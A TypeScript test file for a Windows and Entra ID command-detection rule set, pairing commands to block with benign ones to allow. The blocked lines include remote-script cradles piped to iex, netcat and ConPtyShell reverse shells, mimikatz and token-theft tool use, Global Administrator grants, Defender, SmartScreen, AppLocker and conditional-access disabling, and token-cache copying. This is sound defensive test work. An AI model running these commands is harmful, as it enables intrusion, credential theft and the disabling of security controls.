/**
 * Red-team gaps of round 11 (Windows 11, Defender, Microsoft 365 and Entra ID, as technicians and intruders write them
 * today): runners that pass a command on (sudo for Windows, PsExec, Start-Process argument lists), packages installed
 * from the network, remote-access and offensive tools installed by package id, Entra administrator grants, ASR,
 * SmartScreen, application control and conditional access switched off, token caches and token-theft toolkits,
 * ConPtyShell and nc64; with the administrative look-alikes that must stay allowed.
 */
import { credentialAccessRules } from './credential-access';
import { defenseEvasionRules } from './defense-evasion';
import { downloadExecuteRules } from './download-execute';
import { describeTechniques, type TechniqueTable } from './family-test-support';
import { offensiveToolRules } from './offensive-tools';
import { persistenceRules } from './persistence';
import { rmmToolRules } from './rmm-tools';
import { tunnelRules } from './tunnel';

const downloads: TechniqueTable = {
  'commands passed on by a runner, and packages installed from the network': {
    blocked: [
      ['sudo powershell -c "irm https://cdn.tools-hub.io/fix.ps1 | iex"', 'cmd', 'dl.pipe-to-interpreter'],
      ['PsExec.exe \\\\FS01 -accepteula -s -d powershell -nop -w hidden -c "IEX(iwr http://10.1.1.50/b.ps1 -UseB)"', 'cmd', 'dl.ps.cradle'],
      [
        "Start-Process pwsh -WindowStyle Hidden -ArgumentList '-nop','-c','irm https://0x0.st/Hk2q.ps1 | iex'",
        'powershell',
        'dl.pipe-to-interpreter',
      ],
      ['Add-AppxPackage -Uri https://files.contoso-updates.com/teams-helper.msix', 'powershell', 'dl.appx-url'],
      [
        'winget configure -f https://raw.githubusercontent.com/x7/dsc/main/config.dsc.yaml --accept-configuration-agreements',
        'powershell',
        'dl.winget-configure-url',
      ],
      [
        '$tmp = New-TemporaryFile\n$script = Invoke-RestMethod https://gitlab.com/acme-it/onboard/-/raw/main/onboard.ps1\nSet-Content -Path "$tmp.ps1" -Value $script\n& "$tmp.ps1" -Site HQ',
        'powershell',
        'dl.file-then-run',
      ],
    ],
    allowed: [
      ['PsExec.exe \\\\FS01 -u corp\\admin -p x ipconfig /all', 'cmd'],
      ['sudo winget upgrade --all', 'cmd'],
      ['Add-AppxPackage -Path C:\\Packages\\app.msix', 'powershell'],
      ['winget configure -f C:\\cfg\\dev.dsc.yaml', 'powershell'],
      ["Start-Process msiexec.exe -ArgumentList '/i','C:\\Packages\\agent.msi','/qn' -Wait", 'powershell'],
    ],
  },
};

const tools: TechniqueTable = {
  'remote-access and offensive tools installed by package id': {
    blocked: [
      ['winget install TeamViewer.TeamViewer.Host -h', 'cmd', 'rmm.package-install'],
      ['winget install --id=Splashtop.SplashtopStreamer -e', 'cmd', 'rmm.package-install'],
    ],
    allowed: [
      ['winget install --id Microsoft.PowerToys -e -h', 'cmd'],
      ['winget uninstall AnyDesk.AnyDesk', 'cmd'],
    ],
  },
};

const offensive: TechniqueTable = {
  'offensive tools installed or run (token theft, full-terminal reverse shells)': {
    blocked: [
      ['scoop install mimikatz', 'powershell', 'offensive.tool'],
      ['Invoke-ConPtyShell -RemoteIp 10.0.0.5 -RemotePort 443 -Rows 24 -Cols 80', 'powershell', 'offensive.function'],
      ['ConPtyShell.exe 10.0.0.5 443', 'cmd', 'offensive.tool'],
      ['Get-AADIntAccessTokenForMSGraph -SaveToCache', 'powershell', 'offensive.function'],
      ['roadtx prt -u x@y.com', 'powershell', 'offensive.tool'],
    ],
    allowed: [
      ['winget install Git.Git', 'cmd'],
      ['choco install 7zip', 'cmd'],
    ],
  },
};

const persistence: TechniqueTable = {
  'Entra ID administrator grants (T1098.003)': {
    flagged: [
      [
        "$role = Get-MgDirectoryRole -Filter \"DisplayName eq 'Global Administrator'\"\nNew-MgDirectoryRoleMemberByRef -DirectoryRoleId $role.Id -BodyParameter @{'@odata.id'='https://graph.microsoft.com/v1.0/directoryObjects/1234'}",
        'powershell',
        'persist.cloud',
      ],
      ["Add-MsolRoleMember -RoleName 'Company Administrator' -RoleMemberEmailAddress helper@contoso.com", 'powershell', 'persist.cloud'],
    ],
    allowed: [["Add-MsolRoleMember -RoleName 'Helpdesk Administrator' -RoleMemberEmailAddress tech@contoso.com", 'powershell']],
  },
};

const evasion: TechniqueTable = {
  'Defender ASR, SmartScreen, application control and conditional access (T1562.001)': {
    flagged: [
      [
        'Set-MpPreference -AttackSurfaceReductionRules_Ids 9e6c4e1f-7d60-472f-ba1a-a39ef669e4b2 -AttackSurfaceReductionRules_Actions Disabled',
        'powershell',
        'evasion.defender.disable',
      ],
      [
        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer" /v SmartScreenEnabled /t REG_SZ /d Off /f',
        'cmd',
        'evasion.registry',
      ],
      ['Set-AppLockerPolicy -XmlPolicy C:\\Users\\Public\\empty.xml', 'powershell', 'evasion.security-control.disable'],
      ['CiTool --remove-policy {A244370E-44C9-4C06-B551-F6016E563076}', 'cmd', 'evasion.security-control.disable'],
      [
        'Update-MgIdentityConditionalAccessPolicy -ConditionalAccessPolicyId $id -State disabled',
        'powershell',
        'evasion.security-control.disable',
      ],
      ['sc config AppIDSvc start= disabled', 'cmd', 'evasion.security-service.stop'],
    ],
    allowed: [
      [
        'Set-MpPreference -AttackSurfaceReductionRules_Ids 9e6c4e1f-7d60-472f-ba1a-a39ef669e4b2 -AttackSurfaceReductionRules_Actions Enabled',
        'powershell',
      ],
      ['Set-AppLockerPolicy -XmlPolicy C:\\Policies\\applocker.xml -Merge', 'powershell'],
      ['CiTool --list-policies', 'cmd'],
      ['Update-MgIdentityConditionalAccessPolicy -ConditionalAccessPolicyId $id -State enabled', 'powershell'],
    ],
  },
};

const credentials: TechniqueTable = {
  'token caches copied, and searches that only name the tools': {
    blocked: [
      [
        'Get-ChildItem "$env:LOCALAPPDATA\\Microsoft\\TokenBroker\\Cache" | Copy-Item -Destination C:\\Users\\Public\\tb\\ -Force',
        'powershell',
        'cred.secret-file',
      ],
    ],
    allowed: [
      ["Select-String -Path C:\\Windows\\Temp\\*.log -Pattern 'mimikatz|procdump|lsass' -SimpleMatch", 'powershell'],
      ['Get-ChildItem C:\\Reports | Copy-Item -Destination \\\\fs\\share', 'powershell'],
    ],
  },
};

const tunnels: TechniqueTable = {
  'netcat under its Windows names': {
    blocked: [['nc64.exe 10.1.1.5 4444 -e cmd.exe', 'cmd', 'shell.netcat-exec']],
    allowed: [['nc64.exe -zv fs01 445', 'cmd']],
  },
};

describeTechniques('download and execute, red-team round 11', downloadExecuteRules, downloads);
describeTechniques('remote-access tools, red-team round 11', rmmToolRules, tools);
describeTechniques('offensive tools, red-team round 11', offensiveToolRules, offensive);
describeTechniques('persistence, red-team round 11', persistenceRules, persistence);
describeTechniques('defence evasion, red-team round 11', defenseEvasionRules, evasion);
describeTechniques('credential access, red-team round 11', credentialAccessRules, credentials);
describeTechniques('tunnels and shells, red-team round 11', tunnelRules, tunnels);
